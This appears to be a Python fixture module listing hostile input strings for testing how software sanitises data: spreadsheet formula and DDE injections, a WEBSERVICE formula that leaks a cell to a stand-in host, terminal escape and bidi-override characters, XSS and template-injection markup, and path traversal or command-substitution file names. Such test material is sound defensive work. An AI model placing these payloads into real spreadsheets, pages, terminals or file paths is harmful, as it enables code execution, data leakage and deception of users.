"""Texts that would do something if anything obeyed them."""

from __future__ import annotations

FORMULAS = (
    "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "=HYPERLINK(\"http://evil.example\",\"x\")",
    "=WEBSERVICE(\"http://evil.example/?\"&A1)", "=DDE(\"cmd\";\"/C calc\";\"x\")", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
    "=1+1\n=2+2", "=IMPORTXML(\"http://evil.example\",\"//a\")", "-cmd|'/C calc'!A0", "@foreach",
)  # fmt: skip
"""What spreadsheets take for a formula, a link or a call."""

ESCAPES = (
    "\x1b[31mred", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\", "\x9b31mred",
    "\x07bell", "\x08\x08\x08back", "\x1bc", "\x1b[2J", "\x90q\x9c", "\u202eright", "\u2066isolate\u2069",
    "zero\u200bwidth", "soft\u00adhyphen", "tag\U000e0041", "\u2028line", "\x00nul", "\ufeffmark",
)  # fmt: skip
"""What terminals obey, and what makes a text look like another."""

MARKUP = (
    "[bold]x[/bold]", "[link=http://evil.example]x[/link]", "[/]", "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "![x](http://evil.example/i.png)", "[x](javascript:alert(1))", "a|b`c`*d*_e_",
    "https://evil.example/x", "www.evil.example", "$\\href{javascript:alert(1)}{x}$", "&lt;b&gt;", "# head", "{{7*7}}",
    "${7*7}", "<!-- x -->", "%s%n", "{0.__class__}",
)  # fmt: skip
"""What renderers of rich text, pages and templates obey."""

PATHS = (
    "../../x",
    "/etc/passwd",
    "..\\..\\x",
    "CON",
    "a/b:c*?[d]",
    "~root",
    "$(touch x)",
    "`touch x`",
    "; rm x",
)
"""Names that would lead elsewhere."""

EVERYTHING = (*FORMULAS, *ESCAPES, *MARKUP, *PATHS)

OBEYED = "".join(
    map(chr, (*range(0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0), 0x2028, 0x2029, 0x061C, *range(0x200B, 0x2010),
              *range(0x202A, 0x202F), *range(0x2060, 0x2070), 0xFEFF))
)  # fmt: skip
"""Characters a screen must never get from data."""


def obeyed_in(text: str) -> set[str]:
    """The characters of ``text`` that a screen would obey."""
    return set(text) & set(OBEYED)
